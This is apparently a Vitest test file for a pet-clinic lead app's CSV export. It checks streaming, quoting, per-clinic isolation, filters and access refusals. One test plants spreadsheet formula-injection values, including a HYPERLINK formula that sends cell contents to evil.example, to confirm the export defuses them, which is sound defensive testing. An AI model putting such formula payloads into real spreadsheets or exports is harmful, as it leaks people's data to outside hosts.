import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { DEMO_CLINICS_FILE, seedDemoClinics } from '../clinics/seedDemoClinics'
import type { Db } from '../db/db'
import { EXPORT_PAGE_SIZE } from '../routes/workspaceExportRoutes'
import { storeSubmission } from '../routes/storeSubmission'
import { validPet } from '../testing/payloads'
import { testClock } from '../testing/testClock'
import { openTestDb } from '../testing/testDb'
import { makeTestApp, TEST_ORIGIN } from '../testing/testApp'
import { seedDemoAccounts } from './seedDemoAccounts'

/**
 * Issue 14 (3): GET workspace/leads.csv. The database is wrapped to see every export statement
 * (the one that reads a page and records it in the timeline), so the tests can say how many rows
 * each read held and how far the reading had gone when the first bytes reached the client.
 */
const PASSWORD = 'PetLead-demo-1'
const IDS = (JSON.parse(readFileSync(DEMO_CLINICS_FILE, 'utf8')) as Array<{ id: string }>).map((c) => c.id)
const W = '/api/workspace'
const NOW = new Date('2026-03-02T10:00:00Z')
let t: Awaited<ReturnType<typeof openTestDb>>
let a: ReturnType<typeof makeTestApp>
/** Rows returned by each export page statement, in order. */
let pages: number[]

beforeAll(async () => { t = await openTestDb() })
afterAll(async () => { await t.close() })

function watched(db: Db): Db {
  return {
    ...db,
    kind: db.kind,
    async query<T>(sql: string, params?: unknown[]) {
      const rows = await db.query<T>(sql, params)
      if (sql.includes('INSERT INTO lead_events') && sql.includes("'exported'")) pages.push(rows.length)
      return rows
    },
  }
}

beforeEach(async () => {
  await t.reset()
  pages = []
  a = makeTestApp(watched(t.db), t.dataDir, { clock: testClock(NOW) })
  await seedDemoClinics(t.db, NOW)
  await seedDemoAccounts(t.db, IDS, NOW)
})

async function store(clinicId: string, data: Record<string, unknown>, at = NOW) {
  return t.db.transaction((tx) => storeSubmission(tx, 'health', clinicId, { ...validPet(), ...data }, at, { graceMs: 600_000, clinics: a.deps.clinics }))
}

/** `n` leads of `clinic`, one a minute back from NOW, in one statement (as the inbox bench seeds them). */
async function seed(clinic: string, n: number) {
  await t.db.query(`INSERT INTO submissions (id, kind, clinic_id, data, created_at, routed_clinic_id, route_rule, urgency)
    SELECT gen_random_uuid(), 'health', $2, jsonb_build_object('owner_name', 'Owner ' || g, 'pet_name', 'Pet ' || g, 'email', 'o' || g || '@example.com', 'phone_number', '555' || lpad(g::text, 7, '0')),
      $1::timestamptz - (g || ' minutes')::interval, $2, 'clinic form', 'routine'
    FROM generate_series(1, ${n}) g`, [NOW, clinic])
}

async function login(email: string) {
  const r = await a.post(`${W}/login`, { email, password: PASSWORD }, { origin: TEST_ORIGIN })
  expect(r.status).toBe(200)
  return (r.headers.get('set-cookie') ?? '').split(';')[0]!
}

function request(path: string, headers: Record<string, string>) {
  return a.app.request(path, { headers }, { incoming: { socket: { remoteAddress: '127.0.0.1', remoteFamily: 'IPv4' } } })
}

/** RFC 4180 records (quoted fields, doubled quotes, CRLF), as a spreadsheet program reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = [], cell = '', quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') { row.push(cell); cell = '' }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++ }
    else cell += ch
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row) }
  return rows
}

async function exportCsv(cookie: string, query: string) {
  const res = await request(`${W}/leads.csv?${query}`, { cookie })
  const bytes = new Uint8Array(await res.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  return { res, bytes, text, rows: res.status === 200 ? parseCsv(text.replace(/^\uFEFF/, '')) : [] }
}

describe('CSV export', () => {
  it('streams 5,000 leads in pages of 500: the first rows leave before the second page is read, and nothing is read ahead', async () => {
    await seed('willow', 5_000)
    const cookie = await login('front@willow.test')
    const started = performance.now()
    const res = await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02`, { cookie })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="petlead-leads-willow-2026-02-01-to-2026-03-02.csv"')
    expect(res.headers.get('cache-control')).toBe('no-store')
    // The answer (status, headers and a body to read) exists before a single lead was read.
    expect(pages).toEqual([])
    const reader = res.body!.getReader()
    const chunks: Uint8Array[] = []
    const first = await reader.read()
    chunks.push(first.value!)
    expect([...first.value!.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const second = await reader.read()
    chunks.push(second.value!)
    const firstRowsMs = performance.now() - started
    expect(pages).toEqual([EXPORT_PAGE_SIZE])
    // A client that stops reading stops the reading: a pause reads no further page.
    for (let i = 0; i < 20; i++) await new Promise((r) => setImmediate(r))
    await new Promise((r) => setTimeout(r, 50))
    expect(pages).toEqual([EXPORT_PAGE_SIZE])
    for (let c = await reader.read(); !c.done; c = await reader.read()) chunks.push(c.value)
    const totalMs = performance.now() - started
    // 10 full pages, then the empty one that says the end: no statement ever held more than a page.
    expect(pages).toEqual([...Array(10).fill(EXPORT_PAGE_SIZE), 0])
    const total = chunks.reduce((n, c) => n + c.length, 0)
    const largest = Math.max(...chunks.map((c) => c.length))
    expect(largest).toBeLessThan(total / 8)
    const rows = parseCsv(new TextDecoder().decode(Buffer.concat(chunks)))
    expect(rows).toHaveLength(5_001)
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(5_000)
    // Newest first, as in the inbox.
    expect(rows[1]![10]).toBe('Owner 1')
    expect(rows[5_000]![10]).toBe('Owner 5000')
    console.log(`CSV of 5,000 leads: ${total} bytes in ${chunks.length} chunks (largest ${largest}); first rows after ${firstRowsMs.toFixed(0)} ms, all after ${totalMs.toFixed(0)} ms; ${pages.length} page reads`)
  }, 60_000)

  it('writes the BOM and the header, RFC 4180 quoting, and neutralises cells a spreadsheet would run as formulas', async () => {
    const id = await store('willow', {
      owner_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', pet_name: '+SUM(1,2)', email: '@cmd',
      phone_number: '-2+3', additional_info: 'x', zip_code: '94566',
    })
    const id2 = await store('willow', { owner_name: 'Smith, "Jo"\nJr', pet_name: '\tTab', email: 'plain@example.com', phone_number: '\r5551234567' }, new Date(NOW.getTime() - 60_000))
    const { res, bytes, text, rows } = await exportCsv(await login('owner@willow.test'), 'from=2026-03-01&to=2026-03-02')
    expect(res.status).toBe(200)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(text.slice(1).split('\r\n')[0]).toBe('Lead ID,Received (UTC),Kind,Status,Closed reason,Urgency,Clinic,Pet,Pet type,Breeds,Owner,E-mail,Phone,ZIP code,First contacted (UTC),Speed to lead (min),Workspace link')
    expect(text.endsWith('\r\n')).toBe(true)
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
    const evil = byId.get(id)!
    expect(evil[10]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)
    expect(evil[7]).toBe("'+SUM(1,2)")
    expect(evil[11]).toBe("'@cmd")
    expect(evil[12]).toBe("'-2+3")
    expect(evil.slice(1, 7)).toEqual([NOW.toISOString(), 'health', 'new', '', 'routine', 'willow'])
    expect(evil[13]).toBe('94566')
    expect(evil[16]).toBe(`${TEST_ORIGIN}/workspace/leads/${id}`)
    // The raw line: quotes doubled inside a quoted field.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
    const other = byId.get(id2)!
    expect(other[10]).toBe('Smith, "Jo"\nJr')
    expect(other[7]).toBe("'\tTab")
    expect(other[12]).toBe("'\r5551234567")
    // No cell of the file starts a formula any more.
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it("never holds another clinic's leads; the network exports every clinic, and only it the queue", async () => {
    await seed('willow', 40)
    await seed('pleasanton', 30)
    const willow = await exportCsv(await login('front@willow.test'), 'from=2026-02-01&to=2026-03-02')
    expect(willow.rows).toHaveLength(41)
    expect(new Set(willow.rows.slice(1).map((r) => r[6]))).toEqual(new Set(['willow']))
    const pleasanton = await exportCsv(await login('owner@pleasanton.test'), 'from=2026-02-01&to=2026-03-02')
    expect(pleasanton.rows).toHaveLength(31)
    expect(new Set(pleasanton.rows.slice(1).map((r) => r[6]))).toEqual(new Set(['pleasanton']))
    const willowIds = new Set(willow.rows.slice(1).map((r) => r[0]))
    expect(pleasanton.rows.slice(1).filter((r) => willowIds.has(r[0]!))).toEqual([])
    // A clinic without leads gets a header and nothing else.
    expect((await exportCsv(await login('owner@acacia.test'), 'from=2026-02-01&to=2026-03-02')).rows).toHaveLength(1)
    const network = await exportCsv(await login('demo@petlead.test'), 'from=2026-02-01&to=2026-03-02')
    expect(network.res.headers.get('content-disposition')).toContain('petlead-leads-network-')
    expect(network.rows).toHaveLength(71)
    expect((await request(`${W}/leads.csv?from=2026-02-01&to=2026-03-02&queue=1`, { cookie: await login('front@willow.test') })).status).toBe(403)
    // Only leads the export wrote were marked exported: none of pleasanton's by willow's export.
    const [marks] = await t.db.query<{ n: string }>(`SELECT count(*) AS n FROM lead_events e JOIN submissions s ON s.id = e.submission_id WHERE e.type = 'exported' AND s.clinic_id = 'pleasanton'`)
    expect(Number(marks!.n)).toBe(30 + 30)
  })

  it('applies the inbox filters and the date range, days counted in the given time zone', async () => {
    const cookie = await login('front@willow.test')
    const day = (iso: string) => new Date(iso)
    const ids = {
      old: await store('willow', { owner_name: 'Old Owner' }, day('2026-02-10T18:00:00Z')),
      // 03:00 UTC on 2 March is still 1 March in California.
      lateEvening: await store('willow', { owner_name: 'Evening Owner' }, day('2026-03-02T03:00:00Z')),
      ann: await store('willow', { owner_name: 'Ann Searchable', phone_number: '9255550100' }, day('2026-03-01T17:00:00Z')),
      urgent: await store('willow', { owner_name: 'Urgent Owner', additional_info: 'She ate chocolate and is having a seizure' }, day('2026-03-01T16:00:00Z')),
    }
    expect((await a.patch(`${W}/leads/${ids.ann}`, { status: 'contacted' }, { cookie, origin: TEST_ORIGIN })).status).toBe(200)
    const owners = async (q: string) => (await exportCsv(cookie, q)).rows.slice(1).map((r) => r[10]).sort()
    expect(await owners('from=2026-03-01&to=2026-03-02')).toEqual(['Ann Searchable', 'Evening Owner', 'Urgent Owner'])
    expect(await owners('from=2026-02-01&to=2026-02-28')).toEqual(['Old Owner'])
    expect(await owners('from=2026-02-01&to=2026-03-02')).toHaveLength(4)
    expect(await owners('from=2026-03-02&to=2026-03-02')).toEqual(['Evening Owner'])
    expect(await owners('from=2026-03-02&to=2026-03-02&tz=America/Los_Angeles')).toEqual([])
    expect(await owners('from=2026-03-01&to=2026-03-01&tz=America/Los_Angeles')).toEqual(['Ann Searchable', 'Evening Owner', 'Urgent Owner'])
    expect(await owners('from=2026-02-01&to=2026-03-02&status=contacted')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&status=new&urgency=emergency')).toEqual(['Urgent Owner'])
    expect(await owners('from=2026-02-01&to=2026-03-02&q=searchable')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&q=925-555-0100')).toEqual(['Ann Searchable'])
    expect(await owners('from=2026-02-01&to=2026-03-02&kind=dental')).toEqual([])
    // The same filters give the same leads as the inbox.
    // What the inbox shows: its pinned open emergencies and its list.
    const shown = (await a.get(`${W}/leads?status=new`, { cookie })).json.content
    const inbox = [...shown.pinned, ...shown.items].map((i: { owner: { name: string } }) => i.owner.name).sort()
    expect(await owners('from=2026-02-01&to=2026-03-02&status=new')).toEqual(inbox)
  })

  it('records the export in each exported lead\'s timeline, with who and the file, and nothing for the others', async () => {
    const inRange = await store('willow', { owner_name: 'In Range' })
    const outside = await store('willow', { owner_name: 'Outside' }, new Date('2026-01-05T12:00:00Z'))
    const cookie = await login('front@willow.test')
    expect((await exportCsv(cookie, 'from=2026-03-01&to=2026-03-02')).rows).toHaveLength(2)
    const lead = (await a.get(`${W}/leads/${inRange}`, { cookie })).json.content
    expect(lead.timeline.map((e: { type: string }) => e.type)).toEqual(['received', 'exported'])
    expect(lead.timeline[1]).toMatchObject({ type: 'exported', actor: 'front@willow.test', note: 'petlead-leads-willow-2026-03-01-to-2026-03-02.csv', at: NOW.toISOString() })
    expect((await a.get(`${W}/leads/${outside}`, { cookie })).json.content.timeline.map((e: { type: string }) => e.type)).toEqual(['received'])
  })

  it('refuses bad ranges, unknown zones, cross-site requests and callers without a session', async () => {
    const cookie = await login('front@willow.test')
    const status = async (q: string, h: Record<string, string> = {}) => (await request(`${W}/leads.csv?${q}`, { cookie, ...h })).status
    expect(await status('to=2026-03-02')).toBe(400)
    expect(await status('from=2026-03-02&to=2026-03-01')).toBe(400)
    expect(await status('from=2026-02-30&to=2026-03-01')).toBe(400)
    expect(await status('from=2026-03-01&to=2026-03-02&tz=Mars/Olympus')).toBe(400)
    expect(await status('from=2026-03-01&to=2026-03-02', { 'sec-fetch-site': 'cross-site' })).toBe(403)
    expect(await status('from=2026-03-01&to=2026-03-02', { 'sec-fetch-site': 'same-origin' })).toBe(200)
    expect((await request(`${W}/leads.csv?from=2026-03-01&to=2026-03-02`, {})).status).toBe(401)
    // Refused requests read nothing, and the accepted one, whose body nobody read, read nothing either.
    expect(pages).toEqual([])
  })
})
